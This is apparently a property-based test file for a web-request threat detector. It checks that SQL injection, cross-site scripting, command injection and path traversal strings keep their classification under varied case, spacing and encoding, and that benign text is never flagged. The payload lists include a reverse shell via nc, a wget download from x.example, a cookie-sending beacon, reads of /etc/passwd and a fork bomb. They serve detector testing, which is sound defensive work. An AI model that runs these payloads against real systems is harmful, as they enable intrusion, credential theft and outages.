"""Attacks written from the grammars of their interpreters, and changed as those grammars allow: the kind stays.

Beside them stand honest values that use the same words and signs, changed in the same way: they stay honest.
"""

from __future__ import annotations

from collections.abc import Callable
from urllib.parse import quote

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from steersman.engine.threats import Field, Kind, inspect_value

SQL = [
    "' or 'a'='a", "1 or 1=1 -- ", "1 union select name , pass from users", "1 ; drop table users", "' and sleep(5) #",
    "1 and ascii(substring(version(),1,1)) > 64", "' || pg_sleep(5) || '", "1 ; waitfor delay '0:0:5'",
    "' or exists ( select 1 from users ) -- ", "-1 union all select null , @@version", "1 order by 10 -- ",
    "' having 1=1 -- ", "1 and extractvalue ( 1 , concat ( 0x7e , user() ) )", "') or ('1'='1",
    "1 ; exec master..xp_cmdshell 'dir'", "1 rlike ( select 1 )", "admin' -- ",
]  # fmt: skip
SCRIPT = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<body onpageshow=alert(1)>",
    "<iframe srcdoc='<b>x</b>'></iframe>", "<a href='javascript:alert(1)'>x</a>", "'><script src=//x.example></script>",
    "<details open ontoggle=alert(1)>", "<object data='data:text/html;base64,PHM='></object>", "<base href=//x.example/>",
    "<meta http-equiv=refresh content='0;url=//x.example'>", "<math><style><img src=x onerror=alert(1)></style></math>",
    "<input autofocus onfocus=alert(1)>", "<form action=javascript:alert(1)><input type=submit></form>",
]  # fmt: skip
IN_SCRIPT = [
    "';alert(document.cookie)//", '"-alert(1)-"', "javascript:alert(1)", "window['location']='//x.example'",
    "document.write('x')", "eval(atob('YQ=='))", "{{constructor.constructor('alert(1)')()}}", "setTimeout('x()',1)",
    "[].constructor.constructor('x')()", "document.body.innerHTML='x'", "new Function('x')()", "self['alert'](1)",
    "navigator.sendBeacon('//x.example',document.cookie)", "window.onerror=alert;throw 1", "top['al'+'ert'](1)",
]  # fmt: skip
COMMANDS = [
    "; cat /etc/passwd", "| whoami", "&& wget http://x.example/a.sh", "$(curl http://x.example)", "; nc -e /bin/sh 10.0.0.1 80",
    "| powershell -enc AAAA", "& ping -n 5 127.0.0.1", "FOR /L %a IN (1,1,5) DO calc", 'IF NOT "%1"=="x" calc', "; Get-Process | Out-File x", "; python3 -c 'import os'", "; /bin/bash -i", "; chmod +x /tmp/a",
]  # fmt: skip
PATHS = ["../../../etc/passwd", "../../../../windows/win.ini", "/../../../etc/shadow", "../../../../proc/self/environ"]
HONEST = [
    "Select one of the options from the list", "rock 'n' roll and blues", "drop the table by the window", "O'Brien",
    "union of two sets", "2 apples and pears < 4", "a <b and c> d", "cats & dogs", "what's new, and where?", "50% off; today only",
    "update your profile or delete it", "on = off", "x = y + 1", "the cat sat", "echo chamber", "price: 10 or 20",
    "docs/guide/setup.md", "v1.2.3 -> v1.3.0", "sleep well", "restart-service", "if it is there then go on", "(one) or (two)", "user@example.org", "Where is it from?",
]  # fmt: skip

CASE = st.randoms(use_true_random=False)


def _mixed(text: str, chance: Callable[[], bool]) -> str:
    return "".join(letter.upper() if chance() else letter for letter in text)


def _percent(text: str, chance: Callable[[], bool]) -> str:
    return "".join(f"%{ord(letter):02x}" if chance() or letter in "%+&#" else letter for letter in text)


def _twice(text: str, chance: Callable[[], bool]) -> str:
    return quote(_percent(text, chance))


def _entities(text: str, chance: Callable[[], bool]) -> str:
    return "".join(f"&#{ord(letter)};" if chance() or letter == "&" else letter for letter in text)


def _hexadecimal_entities(text: str, chance: Callable[[], bool]) -> str:
    return "".join(f"&#x{ord(letter):x};" if chance() or letter == "&" else letter for letter in text)


def _escapes(text: str, chance: Callable[[], bool]) -> str:
    return "".join(f"\\u{ord(letter):04x}" if chance() or letter == "\\" else letter for letter in text)


def _plain(text: str, _: Callable[[], bool]) -> str:
    return text


ENCODINGS = st.sampled_from([_plain, _percent, _twice, _entities, _hexadecimal_entities, _escapes])


@st.composite
def changed(draw: st.DrawFn, skeletons: list[str], spaces: list[str], *, case: bool = True) -> str:
    """A skeleton with other white space, other case and an encoding around some of its characters."""
    chance = draw(CASE)
    text = "".join(chance.choice(spaces) if letter == " " else letter for letter in draw(st.sampled_from(skeletons)))
    text = _mixed(text, lambda: chance.random() < 0.5) if case else text
    return draw(ENCODINGS)(text, lambda: chance.random() < 0.3)


@given(
    changed(SQL, [" ", "  ", "\t", "\n", "/**/", "/* x */"]), st.sampled_from([Field.QUERY, Field.JSON, Field.COOKIE])
)
@settings(max_examples=60, deadline=None)
@example("1/**/UnIoN/**/sElEcT/**/1", Field.QUERY)
@example("%2527%2520or%25201%253D1--", Field.QUERY)
def test_sql_stays_sql_whatever_its_case_space_and_encoding(value: str, field: Field) -> None:
    assert inspect_value(value, field).kind is Kind.SQL


@given(changed(SCRIPT, [" ", "\n", "\t", "/"]), st.sampled_from([Field.QUERY, Field.JSON, Field.HEADER]))
@settings(max_examples=60, deadline=None)
@example("<ScRiPt/x>alert(1)</sCrIpT>", Field.QUERY)
def test_markup_that_runs_stays_script(value: str, field: Field) -> None:
    assert inspect_value(value, field).kind is Kind.XSS


@given(changed(IN_SCRIPT, [" ", "\t"], case=False))
@settings(max_examples=40, deadline=None)
def test_script_without_markup_stays_script(value: str) -> None:
    assert inspect_value(value).kind is Kind.XSS


@given(changed(COMMANDS, [" ", "  ", "\t"], case=False))
@settings(max_examples=40, deadline=None)
@example(";c''at /etc/passwd")
@example("|w\\hoami")
@example("; who$@ami")
@example("|pi$()ng 127.0.0.1")
@example(";cat${IFS}/etc/passwd")
@example("`id`")
@example("{,ls,-la}")
@example(":(){ :|:& };:")
def test_a_command_stays_a_command(value: str) -> None:
    assert inspect_value(value).kind in {Kind.COMMAND, Kind.PATH}


@given(changed(PATHS, [" "], case=False), st.sampled_from([Field.QUERY, Field.PATH, Field.FORM]))
@settings(max_examples=40, deadline=None)
@example("..%c0%af..%c0%af..%c0%afetc/passwd", Field.PATH)
@example("....//....//....//etc/passwd", Field.QUERY)
@example("..%252f..%252f..%252fetc%252fpasswd", Field.PATH)
@example("..\\..\\..\\windows\\win.ini", Field.QUERY)
@example("php://filter/convert.base64-encode/resource=index", Field.QUERY)
@example("/app/.git/config", Field.PATH)
@example("/.env", Field.PATH)
def test_a_way_out_of_the_folder_stays_one(value: str, field: Field) -> None:
    assert inspect_value(value, field).kind is Kind.PATH


@given(changed(HONEST, [" ", "  ", "\t", "\n"]), st.sampled_from([*Field]))
@settings(max_examples=120, deadline=None)
def test_honest_values_stay_honest_through_the_same_changes(value: str, field: Field) -> None:
    assert inspect_value(value, field).kind is Kind.NONE


@pytest.mark.parametrize(
    "path", ["/.well-known/acme-challenge/x", "/api/v1/query", "/console/static/app.min.js", "/docs/../docs"]
)
def test_paths_that_servers_have_are_no_attack(path: str) -> None:
    assert inspect_value(path, Field.PATH).kind is Kind.NONE
